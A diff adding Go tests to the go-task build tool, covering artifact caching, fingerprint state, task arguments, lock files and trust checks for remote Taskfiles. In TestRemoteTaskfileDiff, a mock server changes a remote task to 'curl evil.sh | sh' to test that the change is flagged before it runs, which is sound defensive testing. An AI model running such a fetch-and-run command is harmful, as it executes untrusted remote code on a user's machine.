@@ -1,8 +1,12 @@
 package task_test
 
 import (
+	"archive/zip"
 	"bytes"
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
 	"fmt"
 	"io"
 	"io/fs"
@@ -12,6 +16,7 @@ import (
 	"net/http/httptest"
 	"net/url"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"regexp"
 	"runtime"
@@ -28,9 +33,12 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/go-task/task/v3"
+	"github.com/go-task/task/v3/args"
 	"github.com/go-task/task/v3/errors"
 	"github.com/go-task/task/v3/experiments"
+	"github.com/go-task/task/v3/internal/editors"
 	"github.com/go-task/task/v3/internal/filepathext"
+	"github.com/go-task/task/v3/taskfile"
 	"github.com/go-task/task/v3/taskfile/ast"
 )
 
@@ -499,6 +507,16 @@ func TestGenerates(t *testing.T) {
 	}
 }
 
+// stateFile returns the only fingerprint state of the given kind kept for the
+// call variants of a task.
+func stateFile(t *testing.T, tempDir, kind, taskName string) string {
+	t.Helper()
+	matches, err := filepath.Glob(filepathext.SmartJoin(tempDir, kind+"/"+taskName+"-"+strings.Repeat("?", 16)))
+	require.NoError(t, err)
+	require.Len(t, matches, 1)
+	return matches[0]
+}
+
 func TestStatusChecksum(t *testing.T) { // nolint:paralleltest // cannot run in parallel
 	const dir = "testdata/checksum"
 
@@ -506,13 +524,14 @@ func TestStatusChecksum(t *testing.T) { // nolint:paralleltest // cannot run in
 		files []string
 		task  string
 	}{
-		{[]string{"generated.txt", ".task/checksum/build"}, "build"},
-		{[]string{"generated-wildcard.txt", ".task/checksum/build-wildcard"}, "build-wildcard"},
-		{[]string{"generated.txt", ".task/checksum/build-with-status"}, "build-with-status"},
+		{[]string{"generated.txt"}, "build"},
+		{[]string{"generated-wildcard.txt"}, "build-wildcard"},
+		{[]string{"generated.txt"}, "build-with-status"},
 	}
 
 	for _, test := range tests { // nolint:paralleltest // cannot run in parallel
 		t.Run(test.task, func(t *testing.T) {
+			_ = os.RemoveAll(filepathext.SmartJoin(dir, ".task"))
 			for _, f := range test.files {
 				_ = os.Remove(filepathext.SmartJoin(dir, f))
 
@@ -541,7 +560,7 @@ func TestStatusChecksum(t *testing.T) { // nolint:paralleltest // cannot run in
 
 			// Capture the modification time, so we can ensure the checksum file
 			// is not regenerated when the hash hasn't changed.
-			s, err := os.Stat(filepathext.SmartJoin(tempDir.Fingerprint, "checksum/"+test.task))
+			s, err := os.Stat(stateFile(t, tempDir.Fingerprint, "checksum", test.task))
 			require.NoError(t, err)
 			time := s.ModTime()
 
@@ -549,7 +568,7 @@ func TestStatusChecksum(t *testing.T) { // nolint:paralleltest // cannot run in
 			require.NoError(t, e.Run(t.Context(), &task.Call{Task: test.task}))
 			assert.Equal(t, `task: Task "`+test.task+`" is up to date`+"\n", buff.String())
 
-			s, err = os.Stat(filepathext.SmartJoin(tempDir.Fingerprint, "checksum/"+test.task))
+			s, err = os.Stat(stateFile(t, tempDir.Fingerprint, "checksum", test.task))
 			require.NoError(t, err)
 			assert.Equal(t, time, s.ModTime())
 		})
@@ -654,6 +673,1164 @@ func TestStatusChecksumMissingGenerated(t *testing.T) { // nolint:paralleltest /
 	require.NoError(t, err, "generated.txt should be recreated after third run")
 }
 
+func TestArtifactCache(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/artifact_cache"
+
+	var mu sync.Mutex
+	store := map[string][]byte{}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		switch r.Method {
+		case http.MethodGet:
+			data, ok := store[r.URL.Path]
+			if !ok {
+				http.NotFound(w, r)
+				return
+			}
+			_, _ = w.Write(data)
+		case http.MethodPut:
+			data, _ := io.ReadAll(r.Body)
+			store[r.URL.Path] = data
+		}
+	}))
+	defer srv.Close()
+
+	clean := func() {
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, ".task"))
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, "out"))
+	}
+	run := func(mode string, vars ...string) string {
+		call := &task.Call{Task: "build", Vars: ast.NewVars()}
+		for i := 0; i < len(vars); i += 2 {
+			call.Vars.Set(vars[i], ast.Var{Value: vars[i+1]})
+		}
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+			task.WithArtifactCacheURL(srv.URL+"/ac"),
+			task.WithArtifactCacheMode(mode),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), call))
+		return buff.String()
+	}
+	t.Cleanup(clean)
+
+	// A read-only cache is never written to.
+	clean()
+	assert.Contains(t, run("read-only"), "cp ./source.txt")
+	assert.Empty(t, store)
+
+	// A miss runs the task and uploads its generated files.
+	clean()
+	assert.Contains(t, run("read-write"), "cp ./source.txt")
+	assert.Len(t, store, 1)
+
+	// A hit restores them without running the task.
+	clean()
+	out := run("read-only")
+	assert.Equal(t, `task: Task "build" restored from the artifact cache`+"\n", out)
+	b, err := os.ReadFile(filepathext.SmartJoin(dir, "out/generated.txt"))
+	require.NoError(t, err)
+	assert.Equal(t, "artifact\n", string(b))
+
+	// The restored task is then up to date.
+	assert.Equal(t, `task: Task "build" is up to date`+"\n", run("read-only"))
+
+	// Changing the definition of the task is a miss.
+	clean()
+	assert.Contains(t, run("read-only", "MODE", "debug"), "cp ./source.txt")
+
+	// An unreachable cache never fails the build.
+	clean()
+	srv.Close()
+	assert.Contains(t, run("read-write"), "cp ./source.txt")
+}
+
+func TestFingerprintTask(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/fingerprint_task"
+
+	run := func(taskName string, vars map[string]string) string {
+		call := &task.Call{Task: taskName, Vars: ast.NewVars()}
+		for k, v := range vars {
+			call.Vars.Set(k, ast.Var{Value: v})
+		}
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), call))
+		return buff.String()
+	}
+	clean := func() {
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, ".task"))
+		_ = os.Remove(filepathext.SmartJoin(dir, "generated.txt"))
+		_ = os.Remove(filepathext.SmartJoin(dir, "generated-sources-only.txt"))
+	}
+	clean()
+	t.Cleanup(clean)
+
+	t.Run("vars", func(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+		assert.NotContains(t, run("build", nil), "is up to date")
+		assert.Contains(t, run("build", nil), "is up to date")
+		assert.NotContains(t, run("build", map[string]string{"FLAGS": "-O2"}), "is up to date")
+		assert.Contains(t, run("build", map[string]string{"FLAGS": "-O2"}), "is up to date")
+	})
+
+	t.Run("secrets", func(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+		assert.NotContains(t, run("build-secret", nil), "is up to date")
+		// TOKEN_VALUE comes unchanged from the environment, so only the secret
+		// that it feeds changes.
+		t.Setenv("TOKEN_VALUE", "b")
+		assert.Contains(t, run("build-secret", nil), "is up to date")
+	})
+
+	t.Run("disabled", func(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+		assert.NotContains(t, run("build-sources-only", nil), "is up to date")
+		// LEVEL_VALUE comes unchanged from the environment, so only the env of
+		// the task changes.
+		t.Setenv("LEVEL_VALUE", "2")
+		assert.Contains(t, run("build-sources-only", nil), "is up to date")
+	})
+}
+
+func TestFingerprintStatePerCall(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/fingerprint_state"
+	tempDir := filepathext.SmartJoin(dir, ".task")
+
+	run := func() string {
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), &task.Call{Task: "default"}))
+		return buff.String()
+	}
+	clean := func() {
+		_ = os.RemoveAll(tempDir)
+	}
+	clean()
+	t.Cleanup(clean)
+
+	// A state file from before states were kept per call is taken over
+	require.NoError(t, os.MkdirAll(filepathext.SmartJoin(tempDir, "checksum"), 0o755))
+	require.NoError(t, os.WriteFile(filepathext.SmartJoin(tempDir, "checksum/build"), []byte("legacy\n"), 0o644))
+
+	// Each call variant keeps its own state, so they don't invalidate each other
+	assert.NotContains(t, run(), "is up to date")
+	assert.Equal(t, strings.Repeat(`task: Task "build" is up to date`+"\n", 2), run())
+
+	_, err := os.Stat(filepathext.SmartJoin(tempDir, "checksum/build"))
+	assert.True(t, os.IsNotExist(err))
+	matches, err := filepath.Glob(filepathext.SmartJoin(tempDir, "checksum/build-*"))
+	require.NoError(t, err)
+	assert.Len(t, matches, 2)
+
+	data, err := os.ReadFile(filepathext.SmartJoin(tempDir, "index.json"))
+	require.NoError(t, err)
+	var index map[string]struct {
+		Task string            `json:"task"`
+		Vars map[string]string `json:"vars"`
+	}
+	require.NoError(t, json.Unmarshal(data, &index))
+	var targets []string
+	for _, entry := range index {
+		assert.Equal(t, "build", entry.Task)
+		targets = append(targets, entry.Vars["TARGET"])
+	}
+	assert.ElementsMatch(t, []string{"a", "b"}, targets)
+
+	// Dynamic vars don't make a new call variant on each run
+	runStamp := func() string {
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), &task.Call{Task: "stamp"}))
+		return buff.String()
+	}
+	assert.NotContains(t, runStamp(), "is up to date")
+	assert.Equal(t, `task: Task "stamp" is up to date`+"\n", runStamp())
+	matches, err = filepath.Glob(filepathext.SmartJoin(tempDir, "checksum/stamp-*"))
+	require.NoError(t, err)
+	assert.Len(t, matches, 1)
+}
+
+func TestSourcesOfTask(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/sources_task"
+	generated := filepathext.SmartJoin(dir, "gen/generated.txt")
+
+	clean := func() {
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, ".task"))
+		_ = os.Remove(filepathext.SmartJoin(dir, "out.txt"))
+		_ = os.Remove(generated)
+	}
+	clean()
+	t.Cleanup(clean)
+
+	var buff bytes.Buffer
+	e := task.NewExecutor(
+		task.WithDir(dir),
+		task.WithStdout(&buff),
+		task.WithStderr(&buff),
+	)
+	require.NoError(t, e.Setup())
+
+	// The reference is resolved in the namespace of the task
+	check, err := e.FastCompiledTask(&task.Call{Task: "gen:check"})
+	require.NoError(t, err)
+	require.Len(t, check.Sources, 1)
+	assert.True(t, strings.HasSuffix(filepath.ToSlash(check.Sources[0].Glob), "sources_task/gen/generated.txt"))
+
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "gen:codegen"}))
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build"}))
+
+	buff.Reset()
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build"}))
+	assert.Equal(t, `task: Task "build" is up to date`+"\n", buff.String())
+
+	// Changing the generates of the referenced task invalidates the task
+	require.NoError(t, os.WriteFile(generated, []byte("changed\n"), 0o644))
+	buff.Reset()
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build"}))
+	assert.NotContains(t, buff.String(), "is up to date")
+
+	buff.Reset()
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "list"}))
+	assert.Contains(t, buff.String(), "gen/generated.txt\n")
+}
+
+func TestDependsOnDeps(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/depends_on_deps"
+	input := filepathext.SmartJoin(dir, "input.txt")
+
+	clean := func() {
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, ".task"))
+		_ = os.Remove(input)
+	}
+	clean()
+	t.Cleanup(clean)
+
+	run := func(taskName, content string) string {
+		require.NoError(t, os.WriteFile(input, []byte(content), 0o644))
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), &task.Call{Task: taskName}))
+		return buff.String()
+	}
+
+	run("build", "1")
+	run("build-independent", "1")
+
+	out := run("build", "1")
+	assert.Contains(t, out, `task: Task "gen" is up to date`)
+	assert.Contains(t, out, `task: Task "build" is up to date`)
+
+	// A dep that ran makes the task stale only when it opts in
+	out = run("build-independent", "2")
+	assert.Contains(t, out, "task: [gen] echo gen")
+	assert.Contains(t, out, `task: Task "build-independent" is up to date`)
+
+	out = run("build", "3")
+	assert.Contains(t, out, "task: [gen] echo gen")
+	assert.Contains(t, out, "task: [build] echo build")
+}
+
+func TestFsTemplateFuncs(t *testing.T) {
+	t.Parallel()
+
+	var buff bytes.Buffer
+	e := task.NewExecutor(
+		task.WithDir("testdata/fs_funcs"),
+		task.WithStdout(&buff),
+		task.WithStderr(&buff),
+		task.WithSilent(true),
+	)
+	require.NoError(t, e.Setup())
+
+	// Relative paths are resolved from the Taskfile and the task directories
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "default"}))
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "sub"}))
+	assert.Equal(t, "1.2.3\nsub true false\n", buff.String())
+}
+
+func TestEval(t *testing.T) {
+	t.Parallel()
+
+	e := task.NewExecutor(
+		task.WithDir("testdata/eval"),
+		task.WithStdout(io.Discard),
+		task.WithStderr(io.Discard),
+	)
+	require.NoError(t, e.Setup())
+
+	result, err := e.Eval(nil, "{{.PORT}} {{.CONFIG.db.port}} {{.TASK}}")
+	require.NoError(t, err)
+	assert.Equal(t, "5432 5432 ", result)
+
+	result, err = e.Eval(&task.Call{Task: "deploy-staging"}, "{{.TASK}} {{.TARGET}} {{.TOKEN}} {{.PORT}}")
+	require.NoError(t, err)
+	assert.Equal(t, "deploy-* staging hunter2 5432", result)
+
+	_, err = e.Eval(nil, "{{.PORT | nope}}")
+	require.ErrorContains(t, err, `function "nope" not defined`)
+
+	_, err = e.Eval(&task.Call{Task: "missing"}, "{{.PORT}}")
+	require.Error(t, err)
+
+	vars, err := e.ResolvedVars(&task.Call{Task: "deploy-staging"})
+	require.NoError(t, err)
+	assert.Equal(t, "staging", vars["TARGET"].Value)
+	assert.Equal(t, "*****", vars["TOKEN"].Value)
+	assert.Equal(t, []string{"staging"}, vars["MATCH"].Value)
+	assert.NotContains(t, vars, "PATH")
+}
+
+func TestVarOrigin(t *testing.T) {
+	t.Parallel()
+
+	const dir = "testdata/var_origin"
+	root := filepath.Join(dir, "Taskfile.yml")
+	lib := filepath.Join(dir, "lib", "Taskfile.yml")
+
+	var buff bytes.Buffer
+	e := task.NewExecutor(
+		task.WithDir(dir),
+		task.WithStdout(&buff),
+		task.WithStderr(&buff),
+		task.WithSummary(true),
+		task.WithVerbose(true),
+	)
+	require.NoError(t, e.Setup())
+
+	vars, err := e.ResolvedVars(&task.Call{Task: "lib:show"})
+	require.NoError(t, err)
+	assert.Equal(t, fmt.Sprintf("task (%s:9)", lib), vars["FROM_INCLUDE"].Origin)
+	assert.Equal(t, []string{fmt.Sprintf("include (%s:10)", root)}, vars["FROM_INCLUDE"].Overrides)
+	assert.Equal(t, fmt.Sprintf("included taskfile (%s:4)", lib), vars["LIB"].Origin)
+	assert.Equal(t, fmt.Sprintf("dotenv (%s)", filepath.Join(dir, ".env")), vars["FROM_DOTENV"].Origin)
+	assert.Equal(t, "special", vars["TASK"].Origin)
+
+	vars, err = e.ResolvedVars(&task.Call{
+		Task: "greet",
+		Vars: ast.NewVars(&ast.VarElement{Key: "TARGET", Value: ast.Var{Value: "call"}}),
+	})
+	require.NoError(t, err)
+	assert.Equal(t, "call", vars["TARGET"].Value)
+	assert.Equal(t, "call", vars["TARGET"].Origin)
+	assert.Equal(t, []string{fmt.Sprintf("taskfile (%s:14)", root)}, vars["TARGET"].Overrides)
+
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "lib:show"}))
+	assert.Contains(t, buff.String(), fmt.Sprintf("  FROM_INCLUDE: \"task\"\n    from task (%s:9)\n    overrides include (%s:10)\n", lib, root))
+}
+
+func TestTaskArgs(t *testing.T) {
+	t.Parallel()
+
+	tests := []struct {
+		name     string
+		args     []string
+		expected string
+		err      any
+	}{
+		{
+			name:     "separate calls",
+			args:     []string{"deploy", "prod", "--region", "eu", "--replicas=3", "deploy", "dev", "--canary"},
+			expected: "prod eu false 3\ndev us true 1\n",
+		},
+		{
+			name: "missing positional",
+			args: []string{"deploy", "--region", "eu"},
+			err:  &errors.TaskMissingRequiredVarsError{},
+		},
+		{
+			name: "not allowed value",
+			args: []string{"deploy", "staging"},
+			err:  &errors.TaskNotAllowedVarsError{},
+		},
+		{
+			name: "invalid type",
+			args: []string{"deploy", "dev", "--replicas", "many"},
+			err:  &errors.TaskInvalidVarsError{},
+		},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			t.Parallel()
+
+			var buff bytes.Buffer
+			e := task.NewExecutor(
+				task.WithDir("testdata/args"),
+				task.WithStdout(&buff),
+				task.WithStderr(&buff),
+				task.WithSilent(true),
+			)
+			require.NoError(t, e.Setup())
+
+			calls, _, err := args.Parse(e.TaskArgs, test.args...)
+			require.NoError(t, err)
+			err = e.Run(t.Context(), calls...)
+			switch want := test.err.(type) {
+			case *errors.TaskMissingRequiredVarsError:
+				require.ErrorAs(t, err, &want)
+			case *errors.TaskNotAllowedVarsError:
+				require.ErrorAs(t, err, &want)
+			case *errors.TaskInvalidVarsError:
+				require.ErrorAs(t, err, &want)
+			default:
+				require.NoError(t, err)
+				assert.Equal(t, test.expected, buff.String())
+			}
+		})
+	}
+}
+
+func TestTaskArgsReservedFlags(t *testing.T) {
+	t.Parallel()
+
+	e := task.NewExecutor(
+		task.WithDir("testdata/args"),
+		task.WithStdout(io.Discard),
+		task.WithStderr(io.Discard),
+		task.WithReservedFlags([]string{"dry", "region"}),
+	)
+	err := e.Setup()
+	var invalidErr errors.TaskfileInvalidError
+	require.ErrorAs(t, err, &invalidErr)
+	assert.ErrorContains(t, err, "--region is a flag of Task itself")
+
+	// Without reserved flags, any flag can be declared
+	e = task.NewExecutor(
+		task.WithDir("testdata/args"),
+		task.WithStdout(io.Discard),
+		task.WithStderr(io.Discard),
+	)
+	require.NoError(t, e.Setup())
+}
+
+func TestTaskHelp(t *testing.T) {
+	t.Parallel()
+
+	const dir = "testdata/task_help"
+
+	tests := []struct {
+		name     string
+		calls    []*task.Call
+		noStatus bool
+	}{
+		{name: "full", calls: []*task.Call{{Task: "deploy"}}, noStatus: true},
+		{name: "status", calls: []*task.Call{{Task: "build"}, {Task: "d"}}},
+	}
+
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			t.Parallel()
+
+			var buff bytes.Buffer
+			e := task.NewExecutor(
+				task.WithDir(dir),
+				task.WithStdout(&buff),
+				task.WithStderr(&buff),
+			)
+			require.NoError(t, e.Setup())
+			require.NoError(t, e.ShowTaskHelp(false, test.noStatus, test.calls...))
+
+			g := goldie.New(t,
+				goldie.WithFixtureDir(filepath.Join(dir, "testdata")),
+				goldie.WithEqualFn(NormalizedEqual),
+			)
+			g.Assert(t, goldenFileName(t), buff.Bytes())
+		})
+	}
+
+	t.Run("json", func(t *testing.T) {
+		t.Parallel()
+
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.ShowTaskHelp(true, false, &task.Call{Task: "deploy"}))
+
+		var output editors.Namespace
+		require.NoError(t, json.Unmarshal(buff.Bytes(), &output))
+		require.Len(t, output.Tasks, 1)
+		deploy := output.Tasks[0]
+		assert.Equal(t, "Deploy the app", deploy.Desc)
+		assert.Equal(t, []string{"d"}, deploy.Aliases)
+		assert.Equal(t, []string{"build"}, deploy.Deps)
+		assert.Equal(t, []string{"linux", "darwin/arm64"}, deploy.Platforms)
+		require.Len(t, deploy.Args, 2)
+		assert.Equal(t, "region", deploy.Args[1].Flag)
+		assert.Equal(t, "us", deploy.Args[1].Default)
+		require.Len(t, deploy.Requires, 1)
+		assert.Equal(t, "TOKEN", deploy.Requires[0].Name)
+		require.NotNil(t, deploy.UpToDate)
+		assert.False(t, *deploy.UpToDate)
+	})
+}
+
+func TestTaskfileLock(t *testing.T) {
+	t.Parallel()
+
+	var mu sync.Mutex
+	content := "version: '3'\n\ntasks:\n  hello: echo hello\n"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		_, _ = w.Write([]byte(content))
+	}))
+	defer srv.Close()
+
+	dir := t.TempDir()
+	root := fmt.Sprintf("version: '3'\n\nincludes:\n  remote: %s/Taskfile.yml\n", srv.URL)
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "Taskfile.yml"), []byte(root), 0o644))
+	lockfilePath := filepath.Join(dir, "Taskfile.lock")
+
+	setup := func(updateLock bool) error {
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+			task.WithInsecure(true),
+			task.WithAssumeYes(true),
+			task.WithUpdateLock(updateLock),
+		)
+		return e.Setup()
+	}
+
+	// Locking records the remote Taskfile
+	require.NoError(t, setup(true))
+	lock, err := taskfile.ReadLockfile(lockfilePath)
+	require.NoError(t, err)
+	remote, ok := lock.Get(srv.URL + "/Taskfile.yml")
+	require.True(t, ok)
+	assert.Equal(t, srv.URL+"/Taskfile.yml", remote.URL)
+	assert.Len(t, remote.Checksum, 64)
+
+	// An unchanged remote Taskfile matches the lock
+	require.NoError(t, setup(false))
+
+	// A drifted remote Taskfile fails unless the lock is updated
+	mu.Lock()
+	content += "  world: echo world\n"
+	mu.Unlock()
+	err = setup(false)
+	mismatch, ok := errors.AsType[*errors.TaskfileLockMismatchError](err)
+	require.True(t, ok, err)
+	assert.Equal(t, "checksum", mismatch.Field)
+	assert.Equal(t, remote.Checksum, mismatch.Expected)
+
+	require.NoError(t, setup(true))
+	require.NoError(t, setup(false))
+	lock, err = taskfile.ReadLockfile(lockfilePath)
+	require.NoError(t, err)
+	updated, ok := lock.Get(srv.URL + "/Taskfile.yml")
+	require.True(t, ok)
+	assert.NotEqual(t, remote.Checksum, updated.Checksum)
+
+	// A remote Taskfile missing from the lock fails too
+	require.NoError(t, os.WriteFile(lockfilePath, []byte("version: 1\nremotes: {}\n"), 0o644))
+	err = setup(false)
+	mismatch, ok = errors.AsType[*errors.TaskfileLockMismatchError](err)
+	require.True(t, ok, err)
+	assert.Empty(t, mismatch.Field)
+
+	// Content that doesn't match the lock is neither trusted nor cached
+	require.NoError(t, os.RemoveAll(filepath.Join(dir, ".task")))
+	lock = taskfile.NewLockfile()
+	lock.Set(srv.URL+"/Taskfile.yml", remote)
+	require.NoError(t, lock.Write(lockfilePath))
+	_, ok = errors.AsType[*errors.TaskfileLockMismatchError](setup(false))
+	require.True(t, ok)
+	var cached []string
+	_ = filepath.WalkDir(filepath.Join(dir, ".task", "remote"), func(path string, d fs.DirEntry, err error) error {
+		if err == nil && !d.IsDir() {
+			cached = append(cached, path)
+		}
+		return nil
+	})
+	assert.Empty(t, cached)
+}
+
+func TestManageRemoteCache(t *testing.T) {
+	t.Parallel()
+
+	content := "version: '3'\n\ntasks:\n  hello: echo hello\n"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = w.Write([]byte(content))
+	}))
+	defer srv.Close()
+
+	dir := t.TempDir()
+	location := srv.URL + "/Taskfile.yml"
+	root := fmt.Sprintf("version: '3'\n\nincludes:\n  remote: %s\n", location)
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "Taskfile.yml"), []byte(root), 0o644))
+
+	newExecutor := func(buff *bytes.Buffer, opts ...task.ExecutorOption) *task.Executor {
+		return task.NewExecutor(append([]task.ExecutorOption{
+			task.WithDir(dir),
+			task.WithStdin(strings.NewReader("")),
+			task.WithStdout(buff),
+			task.WithStderr(buff),
+			task.WithInsecure(true),
+		}, opts...)...)
+	}
+	run := func(command string, opts []task.ExecutorOption, args ...string) (string, error) {
+		var buff bytes.Buffer
+		err := newExecutor(&buff, opts...).ManageRemoteCache(command, false, args...)
+		return buff.String(), err
+	}
+
+	// Without trust, reading the remote Taskfile prompts
+	var buff bytes.Buffer
+	require.Error(t, newExecutor(&buff).Setup())
+
+	// A trusted remote Taskfile is read without a prompt
+	_, err := run("trust", nil, location)
+	require.NoError(t, err)
+	require.NoError(t, newExecutor(&buff).Setup())
+
+	out, err := run("list", nil)
+	require.NoError(t, err)
+	assert.Contains(t, out, location)
+	out, err = run("show", nil, location)
+	require.NoError(t, err)
+	assert.Equal(t, content, out)
+
+	// Pruning keeps fresh entries and removes the cached Taskfile of old ones
+	_, err = run("prune", nil)
+	require.Error(t, err)
+	out, err = run("prune", []task.ExecutorOption{task.WithCacheExpiryDuration(time.Hour)})
+	require.NoError(t, err)
+	assert.Empty(t, out)
+	out, err = run("prune", []task.ExecutorOption{task.WithCacheExpiryDuration(time.Nanosecond)})
+	require.NoError(t, err)
+	assert.Contains(t, out, "Removed")
+	_, err = run("show", nil, location)
+	require.Error(t, err)
+
+	// Pruning keeps the trust, while untrusting revokes it
+	require.NoError(t, newExecutor(&buff).Setup())
+	_, err = run("untrust", nil, location)
+	require.NoError(t, err)
+	require.Error(t, newExecutor(&buff).Setup())
+
+	// A checksum can be trusted without downloading the Taskfile
+	sum := sha256.Sum256([]byte(content))
+	_, err = run("trust", nil, location, hex.EncodeToString(sum[:]))
+	require.NoError(t, err)
+	require.NoError(t, newExecutor(&buff, task.WithDownload(true)).Setup())
+
+	_, err = run("trust", nil, "Taskfile.yml")
+	require.ErrorContains(t, err, "not a remote Taskfile")
+}
+
+func TestRemoteTaskfileDiff(t *testing.T) {
+	t.Parallel()
+
+	var mu sync.Mutex
+	content := "version: '3'\n\ntasks:\n  hello: echo hello\n"
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		_, _ = w.Write([]byte(content))
+	}))
+	defer srv.Close()
+
+	dir := t.TempDir()
+	root := fmt.Sprintf("version: '3'\n\nincludes:\n  remote: %s/Taskfile.yml\n", srv.URL)
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "Taskfile.yml"), []byte(root), 0o644))
+
+	setup := func(stdin string, opts ...task.ExecutorOption) (string, error) {
+		var buff bytes.Buffer
+		e := task.NewExecutor(append([]task.ExecutorOption{
+			task.WithDir(dir),
+			task.WithStdin(strings.NewReader(stdin)),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+			task.WithInsecure(true),
+			task.WithDownload(true),
+		}, opts...)...)
+		err := e.Setup()
+		return buff.String(), err
+	}
+
+	_, err := setup("", task.WithAssumeYes(true))
+	require.NoError(t, err)
+
+	mu.Lock()
+	content = "version: '3'\n\ntasks:\n  hello: curl evil.sh | sh\n"
+	mu.Unlock()
+
+	// Without a terminal, the diff is printed before failing
+	out, err := setup("")
+	_, ok := errors.AsType[*errors.TaskfileNotTrustedError](err)
+	require.True(t, ok, err)
+	assert.Contains(t, out, "-  hello: echo hello\n+  hello: curl evil.sh | sh")
+
+	// The change can be refused or accepted once the diff is shown
+	_, err = setup("n\n", task.WithAssumeTerm(true))
+	require.Error(t, err)
+	out, err = setup("y\n", task.WithAssumeTerm(true))
+	require.NoError(t, err)
+	assert.Contains(t, out, "+  hello: curl evil.sh | sh")
+	_, err = setup("")
+	require.NoError(t, err)
+
+	// Piped answers are all read, even after viewing the diff in a pager
+	mu.Lock()
+	content = "version: '3'\n\ntasks:\n  hello: echo bye\n"
+	mu.Unlock()
+	_, err = setup("d\ny\n", task.WithAssumeTerm(true))
+	require.NoError(t, err)
+}
+
+func TestRemoteTaskfileNotModified(t *testing.T) {
+	t.Parallel()
+
+	var mu sync.Mutex
+	content, etag := "version: '3'\n\ntasks:\n  hello: echo hello\n", `"v1"`
+	var requests []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		requests = append(requests, r.Method+" "+r.Header.Get("If-None-Match"))
+		w.Header().Set("Content-Type", "text/yaml")
+		w.Header().Set("ETag", etag)
+		if r.Header.Get("If-None-Match") == etag {
+			w.WriteHeader(http.StatusNotModified)
+			return
+		}
+		_, _ = w.Write([]byte(content))
+	}))
+	defer srv.Close()
+
+	dir := t.TempDir()
+	location := srv.URL + "/Taskfile.yml"
+	root := fmt.Sprintf("version: '3'\n\nincludes:\n  remote: %s\n", location)
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "Taskfile.yml"), []byte(root), 0o644))
+
+	setup := func(opts ...task.ExecutorOption) (*task.Executor, error) {
+		var buff bytes.Buffer
+		e := task.NewExecutor(append([]task.ExecutorOption{
+			task.WithDir(dir),
+			task.WithStdin(strings.NewReader("")),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+			task.WithInsecure(true),
+			task.WithDownload(true),
+		}, opts...)...)
+		return e, e.Setup()
+	}
+	requested := func() []string {
+		mu.Lock()
+		defer mu.Unlock()
+		r := requests
+		requests = nil
+		return r
+	}
+
+	_, err := setup(task.WithAssumeYes(true))
+	require.NoError(t, err)
+	assert.Equal(t, []string{"HEAD ", "GET "}, requested())
+
+	// An unchanged Taskfile is not downloaded again
+	e, err := setup()
+	require.NoError(t, err)
+	assert.Equal(t, []string{`GET "v1"`}, requested())
+	_, err = e.GetTask(&task.Call{Task: "remote:hello"})
